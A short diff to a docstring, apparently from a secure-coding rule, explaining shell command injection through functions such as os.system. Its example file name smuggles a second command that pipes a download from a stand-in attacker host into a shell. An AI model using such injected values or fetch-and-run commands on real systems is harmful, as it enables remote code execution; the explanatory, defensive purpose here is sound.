@@ -1,7 +1,7 @@
 """A command run by a function that always uses the shell, such as `os.system`.
 
 The shell reads the whole string as a script. A file called `a.png; curl evil.example | sh` is then two commands, and
-whoever named the file chose the second one.
+the file's name chose the second one.
 
 ## Bad
 
